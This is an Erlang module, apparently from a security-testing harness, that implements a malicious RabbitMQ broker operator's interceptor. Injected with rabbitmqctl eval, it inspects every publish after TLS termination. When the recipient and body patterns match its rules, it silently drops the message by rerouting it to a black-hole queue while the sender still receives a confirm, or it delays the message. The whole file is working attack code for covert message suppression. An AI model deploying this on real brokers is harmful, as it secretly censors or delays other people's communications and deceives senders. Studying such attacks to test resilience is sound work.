%% The dishonest broker operator's hook: a RabbitMQ channel interceptor (the behaviour the
%% sharding and message-timestamp plugins use), compiled and loaded into the running broker by
%% `rabbitmqctl eval`, which any operator of the broker can run. It sees every publish after
%% RabbitMQ has terminated TLS: routing key (the recipient's inbox) and the plain body. Rules
%% (set by attacks/gateway/broker_operator.py in a persistent term) drop a publish, by routing
%% it to a black-hole queue so the sender still gets its confirm, or delay it, when its
%% recipient and every byte pattern of the rule match.
-module(dlt_broker_mitm).
-behaviour(rabbit_channel_interceptor).
-export([init/1, description/0, intercept/3, applies_to/0]).

init(_Channel) -> undefined.

description() -> [{description, <<"dlt gateway attack: drop or delay chosen publishes">>}].

applies_to() -> ['basic.publish'].

intercept({'basic.publish', Ticket, <<>>, Key, Mandatory, Immediate} = Method, Content, _) ->
    case persistent_term:get(dlt_broker_mitm_rules, []) of
        [] ->
            {Method, Content};
        Rules ->
            Body = iolist_to_binary(lists:reverse(element(6, Content))),
            count({seen, Key}),
            case match(Rules, Key, Body) of
                nomatch ->
                    {Method, Content};
                {Name, drop} ->
                    count({matched, Name}),
                    Hole = persistent_term:get(dlt_broker_mitm_hole),
                    {{'basic.publish', Ticket, <<>>, Hole, Mandatory, Immediate}, Content};
                {Name, {delay, Ms}} ->
                    count({matched, Name}),
                    timer:sleep(Ms),
                    {Method, Content}
            end
    end;
intercept(Method, Content, _) ->
    {Method, Content}.

match([], _, _) ->
    nomatch;
match([{Name, Queue, Patterns, Action} | Rest], Key, Body) ->
    Wanted = (Queue =:= any orelse Queue =:= Key)
        andalso lists:all(fun(P) -> binary:match(Body, P) =/= nomatch end, Patterns),
    case Wanted of
        true -> {Name, Action};
        false -> match(Rest, Key, Body)
    end.

count(Key) ->
    catch ets:update_counter(dlt_broker_mitm, Key, 1, {Key, 0}).
